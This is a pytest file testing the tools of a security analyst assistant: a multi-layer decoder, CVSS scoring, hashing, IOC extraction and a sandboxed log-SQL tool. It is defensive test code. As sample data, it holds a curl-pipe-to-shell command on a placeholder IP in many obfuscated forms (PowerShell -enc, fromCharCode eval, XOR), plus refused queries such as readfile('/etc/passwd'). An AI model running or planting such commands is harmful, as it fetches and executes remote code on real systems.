"""The tools by themselves: what they return for a given input."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import hashlib
import json
import lzma
import zlib
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secgemini_jupyter.local_server.analyst.planner import make_plan, request_of, split_prompt
from secgemini_jupyter.local_server.analyst.tool import Attached, FileOrText, ToolFailure, Wish
from secgemini_jupyter.local_server.analyst.toolbox import tools
from secgemini_jupyter.local_server.analyst.tools.cvss_scores import CvssArguments, cvss_score
from secgemini_jupyter.local_server.analyst.tools.decoding import MAX_BYTES, DecodeArguments, decode
from secgemini_jupyter.local_server.analyst.tools.hashes import HashArguments, hash_file
from secgemini_jupyter.local_server.analyst.tools.iocs import ExtractArguments, extract_iocs
from secgemini_jupyter.local_server.analyst.tools.log_queries import SqlArguments, log_sql

COMMAND = "curl http://203.0.113.50/x.sh | sh"


def decoded(text: str | bytes, **options: Any) -> tuple[list[str], str]:
    if isinstance(text, bytes):
        result = decode(DecodeArguments(file="f", **options), {"f": text})
    else:
        result = decode(DecodeArguments(text=text, **options), {})
    return [layer["encoding"] for layer in result["layers"]], result["text"]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


PLAIN = COMMAND.encode()
UTF16 = COMMAND.encode("utf-16-le")


@pytest.mark.parametrize(
    ("text", "layers"),
    [
        (b64(PLAIN), ["base64"]),
        (b64(PLAIN).rstrip("="), ["base64"]),
        (base64.urlsafe_b64encode(b"??>>" + PLAIN).decode(), ["base64"]),
        (b64(b64(PLAIN).encode()), ["base64", "base64"]),
        (b64(gzip.compress(PLAIN, mtime=0)), ["base64", "gzip"]),
        (b64(zlib.compress(PLAIN)), ["base64", "zlib"]),
        (b64(bz2.compress(PLAIN)), ["base64", "bzip2"]),
        (b64(lzma.compress(PLAIN)), ["base64", "xz"]),
        (b64(UTF16), ["base64", "UTF-16LE"]),
        (base64.b32encode(PLAIN).decode(), ["base32"]),
        (PLAIN.hex(), ["hex"]),
        (PLAIN.hex(" "), ["hex"]),
        ("".join(f"\\x{byte:02x}" for byte in PLAIN), ["hex escapes"]),
        ("".join(f"%{byte:02X}" for byte in PLAIN), ["URL encoding"]),
        (PLAIN.hex("-"), ["hex"]),
        ("echo '" + "".join(f"\\x{byte:02x}" for byte in PLAIN) + "'", ["hex escapes"]),
        ("".join(f"\\u{byte:04x}" for byte in PLAIN), ["escapes"]),
        ("".join(f"\\{byte:03o}" for byte in PLAIN), ["escapes"]),
        ("".join(f"&#{byte};" for byte in PLAIN), ["HTML entities"]),
        ("".join(f"&#x{byte:x};" for byte in PLAIN), ["HTML entities"]),
        ("".join(f"%u{byte:04x}" for byte in PLAIN), ["URL encoding (%u)"]),
        (" ".join(f"{byte:08b}" for byte in PLAIN), ["binary digits"]),
        (" ".join(map(str, PLAIN)), ["character codes"]),
        (f"eval(String.fromCharCode({','.join(map(str, PLAIN))}))", ["character codes"]),
        (" & ".join(f"Chr({byte})" for byte in PLAIN), ["character codes"]),
        (f"=?utf-8?B?{b64(PLAIN)}?=", ["encoded words of a mail header"]),
        (b64(PLAIN).encode().hex(), ["hex", "base64"]),
        (f"powershell.exe -NoP -enc {b64(UTF16)}", ["PowerShell -EncodedCommand (base64, UTF-16LE)"]),
        (f"please decode {b64(PLAIN)} for me", ["base64"]),
        (b64(bytes(byte ^ 0x5A for byte in PLAIN)), ["base64", "one-byte XOR (key 0x5a)"]),
    ],
)
def test_layers_are_named_and_peeled(text: str, layers: list[str]) -> None:
    names, plain = decoded(text)
    assert names == layers
    assert COMMAND in plain


@pytest.mark.parametrize(
    "text",
    ["password", "hello world, this is plain text", "d41d8cd98f00b204e9800998ecf8427e", "deadbeefcafe", "100% sure",
     hashlib.sha256(b"x").hexdigest(), "abcdefgh", "AAAAAAAAAAAAAAAA",
     "1 2 3 4 5 6", "C:\\x64\\x86", "192 168 0 1", "10:20:30:40"],
)  # fmt: skip
def test_plain_words_and_digests_are_not_decoded(text: str) -> None:
    assert decoded(text)[0] == []


def test_rot13_is_tried_on_request_only() -> None:
    turned = codecs.encode("attack at dawn", "rot13")
    assert decoded(turned)[0] == []
    assert decoded(turned, rot13=True) == (["ROT13"], "attack at dawn")


@pytest.mark.parametrize(
    ("prompt", "layers", "text"),
    [
        ("decode gur cnffjbeq vf uhagre2", ["ROT13"], "the password is hunter2"),
        ("rot13: gur cnffjbeq vf uhagre2", ["ROT13"], "the password is hunter2"),
        ("decode uryyb with rot13", ["ROT13"], "hello"),
        ("base64: aGk=", ["base64"], "hi"),
        ("aGVsbG8gd29ybGQ=", ["base64"], "hello world"),
        ("base64 decode: deadbeef", ["base64"], ""),  # it could be hex
        ("Decode this base64: 48656c6c6f20776f726c64", ["hex"], "Hello world"),  # it is none
        ("hex decode 6162", ["hex"], "ab"),
        ("url decode %2e%2e%2fetc", ["URL encoding"], "../etc"),
        ("decode 2a363632786d6d7072716c726c7373716c74746d3136232527706c202b2c", ["hex", "one-byte XOR (key 0x42)"],
         "http://203.0.113.66/stage2.bin"),
    ],
)  # fmt: skip
def test_the_encoding_that_is_named_decides_and_no_word_of_a_sentence_is_encoded(
    prompt: str, layers: list[str], text: str
) -> None:
    (call,) = make_plan(request_of(prompt, ())).calls
    assert decoded(**call.arguments) == (layers, text)


@pytest.mark.parametrize(
    ("prompt", "answer"),
    [
        ("base64 encode hello", "`aGVsbG8=`"),
        ("encode hello world in base64", "`aGVsbG8gd29ybGQ=`"),
        ("url encode a b/c", "`a%20b%2Fc`"),
        ("convert hello to hex", "`68656c6c6f`"),
        ("rot13 encode hello", "`uryyb`"),
        ("encode hello", "- base64: `aGVsbG8=`\n- hex: `68656c6c6f`\n- URL encoding: `hello`"),
    ],
)
def test_what_is_to_be_encoded_is_encoded(prompt: str, answer: str) -> None:
    (call,) = make_plan(request_of(prompt, ())).calls
    assert tools()["decode"].answer(decode(DecodeArguments(**call.arguments), {}), Wish()) == answer
    assert make_plan(request_of("base64 of the attachment", [Attached("a.bin", "text", 5)])).calls[0].tool != "decode"


@pytest.mark.parametrize(
    ("prompt", "layers"),
    [
        ("xor decode {}", ["hex", "one-byte XOR (key 0x42, the likeliest)"]),
        ("decode {} with xor", ["hex", "one-byte XOR (key 0x42, the likeliest)"]),
        ("xor with key 0x42: {}", ["hex", "one-byte XOR (key 0x42)"]),
        ("XOR {} with the key 66", ["hex", "one-byte XOR (key 0x42)"]),
    ],
)
def test_a_short_xor_is_tried_where_it_is_asked_for(prompt: str, layers: list[str]) -> None:
    """Eleven bytes are too few to guess one unasked."""
    hidden = bytes(byte ^ 0x42 for byte in b"hello world").hex()
    assert "XOR" not in str(decoded(hidden)[0])
    (call,) = make_plan(request_of(prompt.format(hidden), ())).calls
    assert decoded(**call.arguments) == (layers, "hello world")


def test_what_is_decoded_gives_indicators() -> None:
    result = decode(DecodeArguments(text=b64(PLAIN)), {})
    assert {"type": "ipv4", "value": "203.0.113.50"} in result["indicators"]
    items = tools()["decode"].items(result)
    assert items[0] == {"type": "text", "value": COMMAND}
    assert {"type": "ipv4", "value": "203.0.113.50"} in items


def test_a_bomb_is_cut() -> None:
    result = decode(DecodeArguments(file="f"), {"f": gzip.compress(b"\0" * 200_000_000, 1)})
    assert result["layers"] == [{"encoding": "gzip", "bytes": MAX_BYTES, "cut": True}]


@given(st.one_of(st.binary(max_size=200), st.text(max_size=100).map(str.encode)))
@settings(max_examples=150, deadline=None)
def test_any_bytes_can_be_put_in(data: bytes) -> None:
    json.dumps(decode(DecodeArguments(file="f"), {"f": data}))


def score(vector: str) -> dict[str, Any]:
    return cvss_score(CvssArguments(vector=vector), {})


@pytest.mark.parametrize(
    ("vector", "points", "severity"),
    [
        ("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", 6.1, "Medium"),
        ("CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8, "Critical"),
        ("CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N", 9.3, "Critical"),
        ("AV:N/AC:L/Au:N/C:P/I:P/A:P", 7.5, "High"),
        ("(AV:L/AC:H/Au:N/C:N/I:P/A:C)", 4.7, "Medium"),
        ("cvss:3.1/av:n/ac:l/pr:n/ui:r/s:c/c:l/i:l/a:n", 6.1, "Medium"),
        ("CVSS:3.1/AV:P/AC:H/PR:H/UI:R/S:U/C:N/I:N/A:N", 0.0, "None"),
    ],
)
def test_vectors_of_every_version_are_scored(vector: str, points: float, severity: str) -> None:
    result = score(vector)
    assert (result["score"], result["severity"]) == (points, severity)
    assert all(each["meaning"] for each in result["metrics"])


def test_temporal_and_environmental_scores_are_given_where_their_metrics_are() -> None:
    result = score("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H/E:U/RL:O/RC:U")
    assert result["temporal"] == {"score": 7.8, "severity": "High"}
    assert "environmental" not in result


@pytest.mark.parametrize(
    ("vector", "missing"),
    [
        ("CVSS:3.1/AV:N/AC:L/PR:N", ["UI", "S", "C", "I", "A"]),
        ("CVSS:4.0/AV:N", ["AC", "AT", "PR", "UI", "VC", "VI", "VA", "SC", "SI", "SA"]),
        ("AV:N/AC:L/Au:N", ["C", "I", "A"]),
    ],
)
def test_an_incomplete_vector_names_what_is_missing_and_has_no_score(vector: str, missing: list[str]) -> None:
    result = score(vector)
    assert [each["metric"] for each in result["missing"]] == missing
    assert "score" not in result
    assert "no score" in tools()["cvss_score"].answer(result, msgspec.convert({}, type("Wish", (msgspec.Struct,), {})))


@pytest.mark.parametrize(
    ("vector", "problem"),
    [
        ("CVSS:3.1/AV:X/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:Q", "invalid value"),
        ("CVSS:3.1/AV:N/AV:L/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", "given twice"),
        ("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N/ZZ:T", "unknown metric"),
    ],
)
def test_a_wrong_vector_has_no_score(vector: str, problem: str) -> None:
    result = score(vector)
    assert problem in {each["problem"] for each in result["problems"]}
    assert "score" not in result


def test_an_unknown_version_has_no_score() -> None:
    assert score("CVSS:9.9/AV:N")["error"] == "unknown version"


@given(st.text("CVSS:2340./AVNLPRUISHXEQ", max_size=60))
@settings(max_examples=150, deadline=None)
def test_any_vector_is_answered(vector: str) -> None:
    json.dumps(score(vector))


def test_hashes_are_those_of_the_bytes_and_compared() -> None:
    data = bytes(range(256))
    result = hash_file(HashArguments(file="f", expected=hashlib.sha1(data).hexdigest().upper()), {"f": data})
    assert result["sha256"] == hashlib.sha256(data).hexdigest()
    assert (result["size"], result["matches"]) == (256, "sha1")
    assert hash_file(HashArguments(file="f", expected="00" * 16), {"f": data})["matches"] is None


def test_a_missing_attachment_is_named() -> None:
    with pytest.raises(ToolFailure, match=r"'gone\.log'"):
        hash_file(HashArguments(file="gone.log"), {})


def test_indicators_of_a_file_are_counted_once_each() -> None:
    result = extract_iocs(ExtractArguments(file="f"), {"f": b"evil[.]com http://evil.com/ evil.com 10.0.0.5"})
    assert [(row["type"], row["value"], row["count"]) for row in result["indicators"]] == [
        ("url", "http://evil.com/", 1),
        ("domain", "evil.com", 3),
        ("ipv4", "10.0.0.5", 1),
    ]


def test_a_binary_file_gives_the_indicators_of_its_strings() -> None:
    content = b"MZ\0\1\2\3" * 50 + b"http://evil.com/a\0" + "evil.org".encode("utf-16-le") + b"\0\xff\xfe" * 50
    result = extract_iocs(ExtractArguments(file="f"), {"f": content})
    assert result["read_as"] == "printable strings"
    assert {"http://evil.com/a", "evil.org"} <= {row["value"] for row in result["indicators"]}


LOG = '{"host": "a", "id.orig_h": "10.0.0.1", "line": 7, "HOST": "b", "n": 99999999999999999999}\n' * 3


def sql(query: str, log: str = LOG) -> dict[str, Any]:
    return log_sql(SqlArguments(text=log, sql=query), {})


def test_a_log_is_a_table_whatever_its_fields_are_called() -> None:
    assert sql('SELECT host, "id.orig_h", line_, HOST_, n, count(*) FROM log GROUP BY 1')["rows"] == [
        ["a", "10.0.0.1", 7, "b", "99999999999999999999", 3]
    ]


def test_a_number_of_a_query_is_shown_as_it_is() -> None:
    """A port is no 16,464, and a time no 1,379,288,699.08."""
    result = sql("SELECT 16464 AS port, 1379288699.5 AS ts, host FROM log LIMIT 1")
    assert tools()["log_sql"].answer(result, Wish()).splitlines()[-1] == "| 16464 | 1379288699.5 | `a` |"


def test_optional_columns_are_compared_with_the_logs_fields_without_case() -> None:
    """The query for executables' hashes names columns that a log may spell otherwise, or lack."""
    (call,) = tools()["log_sql"].plan(request_of("MD5s of the executables?", [Attached("f", "log/jsonl", 1)]))
    log = b'{"MD5": "0cc175b9c0f1b6a831c399e269772661", "Mime_Type": "application/x-dosexec", "line": 1}\n' * 2
    result = log_sql(msgspec.convert(call.arguments, SqlArguments), {"f": log})
    assert result["rows"] == [["0cc175b9c0f1b6a831c399e269772661", None, None, None, None, 2]]
    again = log_sql(SqlArguments(text=LOG, sql="SELECT x FROM log", optional=["x", "X", "LINE", "Host"]), {})
    assert again["rows"] == [[None]] * 3


def test_a_refusal_is_one_sentence_with_one_full_stop() -> None:
    with pytest.raises(ToolFailure) as caught:
        sql("SELECT 1; SELECT 2")
    assert ".." not in str(caught.value)


@pytest.mark.parametrize(
    "query",
    ["DELETE FROM log", "DROP TABLE log", "ATTACH '/tmp/x' AS y", "PRAGMA database_list", "SELECT load_extension('x')",
     "SELECT 1; SELECT 2", "CREATE TABLE x (a)", "SELECT readfile('/etc/passwd')", "VACUUM INTO '/tmp/x'",
     "SELECT * FROM sqlite_master", "SELECT zeroblob(1000000000)", "", "nonsense"],
)  # fmt: skip
def test_everything_but_one_select_is_refused(query: str) -> None:
    with pytest.raises(ToolFailure, match="SQLite refused"):
        sql(query)


def test_an_endless_query_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("secgemini_jupyter.local_server.analyst.tools.log_queries.SECONDS", 0.2)
    with pytest.raises(ToolFailure, match="interrupted"):
        sql("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r")


def test_every_tool_offers_a_schema_for_models() -> None:
    for tool in tools().values():
        schema = tool.schema()
        assert schema["type"] == "object"
        assert "$ref" not in json.dumps(schema)


@pytest.mark.parametrize(
    ("prompt", "said", "shown"),
    [
        ("Decode: H4sIAAAA", "Decode", "H4sIAAAA"),
        ("Pull the IOCs out of this:\nline one\nline two", "Pull the IOCs out of this", "line one\nline two"),
        ("Who logged in?\n\nJan 1", "Who logged in?", "Jan 1"),
        ("Explain\n```\ncode\n```", "Explain", "code"),
        ("Score CVSS:3.1/AV:N", "Score CVSS:3.1/AV:N", ""),
        ("one line", "one line", ""),
    ],
)
def test_what_is_said_is_told_from_what_is_shown(prompt: str, said: str, shown: str) -> None:
    assert split_prompt(prompt) == (said, shown)


def test_arguments_from_a_model_are_checked() -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({"text": 5}, FileOrText)
